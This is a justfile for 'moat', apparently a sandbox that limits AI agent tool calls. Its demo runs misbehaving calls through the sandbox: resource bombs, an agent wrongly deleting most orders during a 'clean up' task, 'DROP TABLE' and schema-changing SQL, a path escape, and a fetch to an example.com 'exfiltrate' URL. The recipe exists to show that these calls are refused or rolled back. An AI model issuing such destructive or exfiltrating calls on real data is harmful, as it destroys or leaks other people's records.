# moat: `just demo` shows it working, `just test` checks it. `just --list` for the rest.

set shell := ["bash", "-euo", "pipefail", "-c"]

moat := "target/debug/moat"

# List the recipes
default:
    @just --list

# Build the host: the moat library and binary
build:
    cargo build --workspace --locked

# Build every guest (example tools, test plugins) into target/wasm/, installing the toolchain if needed
plugins: build
    plugins/toolchain.sh

# Run every test (builds the plugins first)
test: plugins
    cargo test --workspace --locked

# Check formatting and lints
lint:
    cargo fmt --all -- --check
    cargo clippy --workspace --all-targets --locked -- -D warnings

# Run the example tools and the misbehaving ones through the CLI, showing each budget hold
demo: plugins
    #!/usr/bin/env bash
    set -uo pipefail
    moat="{{moat}} --tools target/wasm/tools --tools target/wasm/tests"
    step() { printf '\n\033[1m== %s\033[0m\n$ %s\n' "$1" "$2"; eval "$2"; echo "(exit status $?)"; }
    step "the tools on offer" "$moat tools"
    step "a trivial tool" "$moat call echo --args '{\"text\": \"hello from inside the sandbox\"}'"
    step "a tool doing real work" "$moat call csv_stats --args '{\"csv\": \"region,sales\\nnorth,120\\nsouth,80\\neast,95.5\\nwest,\"}'"
    step "broken JSON from an agent is refused before anything runs" "$moat call echo --args '{\"text\": '"
    step "a refusal is exit status 2, with the budget, its limit and the usage" "$moat call spin --fuel 50000000"
    printf '\n\033[1m== one host, one session: every misbehaving plugin stopped by its budget, and the host serves on\033[0m\n'
    MOAT_LOG=off $moat batch - <<'SESSION'
    # an infinite loop runs out of fuel
    {"tool": "spin", "budgets": {"fuel": 50000000}}
    # with fuel to spare, the wall clock stops it
    {"tool": "spin", "budgets": {"fuel": 100000000000, "wall_time": "300ms"}}
    # a memory bomb hits the memory budget
    {"tool": "grow_memory", "budgets": {"memory": "32 MiB"}}
    # unbounded recursion hits the stack limit
    {"tool": "recurse"}
    # a huge output hits the output budget
    {"tool": "huge_output", "args": {"bytes": 5000000}}
    # a panic is a trap, reported with the panic message
    {"tool": "panic"}
    # and the same host still serves
    {"tool": "ok"}
    {"tool": "echo", "args": {"text": "still serving"}}
    SESSION
    printf '\n\033[1m== "clean up the data": scope and magnitude limits on every effect\033[0m\n'
    cargo run -q --locked -p moat --example demo_sandbox -- target/demo
    sed -n '/^\[tools.db_execute/,/^$/p' target/demo/moat.toml
    MOAT_LOG=off {{moat}} --config target/demo/moat.toml batch - <<'SESSION'
    {"task_start": "batch", "prompt": "Clean up the shop's data and tidy the workspace."}
    # the agent looks at the orders
    {"tool": "db_query", "args": {"sql": "SELECT status, count(*) AS orders FROM orders GROUP BY status"}}
    # asked to "clean up the data", it deletes every order that is not open...
    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DELETE FROM orders WHERE status <> 'open'"}}
    # ...and is told the numbers; so is the cleanup tool, which tries the same
    {"tool": "cleanup", "confidence": 0.9, "args": {"table": "orders", "keep_status": ["open"]}}
    # a high-stakes call made without confidence escalates to a person; with nobody at
    # this terminal, that is a deny
    {"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}}
    # the same cleanup, the size of the problem and made with confidence, goes through
    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}}
    # outside the grant: another table, a schema change, a pragma
    {"tool": "db_query", "args": {"sql": "SELECT email FROM customers"}}
    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DROP TABLE orders"}}
    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "PRAGMA writable_schema = ON"}}
    # the file organizer sorts the workspace into folders...
    {"tool": "organize", "args": {}}
    # ...may not step outside it...
    {"tool": "organize", "args": {"folder": "../"}}
    # ...and removing 8 temporary files, over its limit of 5 deletions, removes none
    {"tool": "tidy", "confidence": 0.9, "args": {"folder": "tmp", "suffixes": [".tmp"]}}
    # the network: only allow-listed origins
    {"tool": "fetch", "confidence": 0.9, "args": {"url": "https://example.com/exfiltrate?data=orders"}}
    SESSION
    printf '\nthe workspace afterwards (every .tmp file is still there: the refused call was rolled back):\n'
    (cd target/demo/workspace && find . -type f | sort | sed 's/^/  /')
    printf '\n\033[1m== guard policies: every output checked before it is acted on\033[0m\n'
    {{moat}} --config target/demo/guarded.toml policies
    MOAT_LOG=off {{moat}} --config target/demo/guarded.toml batch - <<'SESSION'
    # PII never leaves moat: outputs are redacted (emails, phone numbers, card numbers)
    {"tool": "echo", "args": {"text": "Ada: ada@example.com, +1 415 555 0100, card 4111 1111 1111 1111"}}
    # an agent drafts a reply claiming order 42 is open: the fact check asks the orders table
    {"tool": "draft_reply", "args": {"order_id": 42, "status": "open", "amount": 63.0, "customer": "Ada"}}
    # the same reply with the facts right goes out
    {"tool": "draft_reply", "args": {"order_id": 42, "status": "shipped", "amount": 63.0, "customer": "Ada"}}
    # deleting needs a person; nobody is at this terminal, so the answer is no
    {"tool": "db_execute", "confidence": 0.95, "args": {"sql": "DELETE FROM orders WHERE id = 7"}}
    # a message to too many recipients is refused before anything is sent
    {"tool": "http_send", "confidence": 0.95, "args": {"method": "POST", "url": "http://127.0.0.1:9/mail", "to": ["a@x.io", "b@x.io", "c@x.io", "d@x.io", "e@x.io", "f@x.io"]}}
    SESSION
    printf '\n\033[1m== reliability: breakers, loops, task budgets, output windows\033[0m\n'
    printf '(alerts for a person go to stderr, target/demo/.moat/alerts.jsonl and a webhook if configured)\n'
    MOAT_LOG=off {{moat}} --config target/demo/moat.toml --tools target/wasm/tests batch - <<'SESSION'
    # a flaky backend fails five calls in a row: its breaker opens...
    {"tool": "flaky", "args": {"fail": true}, "task": "report-1"}
    {"tool": "flaky", "args": {"fail": true}, "task": "report-2"}
    {"tool": "flaky", "args": {"fail": true}, "task": "report-3"}
    {"tool": "flaky", "args": {"fail": true}, "task": "report-4"}
    {"tool": "flaky", "args": {"fail": true}, "task": "report-5"}
    # ...and the next call is refused at once, with the reason and when to retry
    {"tool": "flaky", "args": {"fail": false}, "task": "report-6"}
    # an agent stuck in a loop makes the same call again and again: the sixth is refused
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    {"tool": "ok", "session": "agent-7", "task": "loop"}
    # a tool returns 10 MB: the agent gets the first 8000-token window and a cursor...
    {"tool": "lines", "args": {"count": 250000}, "budgets": {"output": "16 MiB"}, "task": "big"}
    # ...and reads on exactly where it stopped
    {"tool": "read_more", "args": {"cursor": "$last"}, "task": "big"}
    # a task's token budget (2,000,000 by default) counts tool output and the model's own
    # tokens, as the caller reports them: the third step is over it
    {"tool": "ok", "task": "essay", "model_tokens": 900000}
    {"tool": "ok", "task": "essay", "model_tokens": 900000}
    {"tool": "ok", "task": "essay", "model_tokens": 900000}
    SESSION
    printf '\n\033[1m== the audit log: every call above, chained with blake3 and signed\033[0m\n'
    demo="{{moat}} --config target/demo/moat.toml"
    step "what the clean-up task changed, as the log tells it" "$demo audit show --task batch --event effect"
    step "the refusals of the guard policies" "$demo audit show --verdict deny"
    step "the whole log verifies: every hash, link, blob and signed checkpoint" "$demo audit verify"
    step "roll the clean-up task back: files and rows restored from the log's before-images" "$demo task rollback batch"
    printf '\nthe workspace afterwards (as it was before the task):\n'
    (cd target/demo/workspace && find . -type f | sort | sed 's/^/  /')
    step "calibration: what each confidence threshold would have escalated and let through" "$demo calibrate | sed -n '/^db_execute/,/suggested/p'"
    step "and the test orders are back" "$demo call db_query --args '{\"sql\": \"SELECT status, count(*) AS orders FROM orders GROUP BY status\"}'"
    rm -rf target/demo/tampered && cp -r target/demo/.moat/audit target/demo/tampered
    sed -i '0,/DELETE FROM orders WHERE status = .test./s//DELETE FROM orders WHERE status = '"'"'spam'"'"'/' target/demo/tampered/log.jsonl
    step "someone edits a copy of the log: verify names the record" "$demo audit --dir target/demo/tampered verify"
    printf '\ndemo finished.\n'
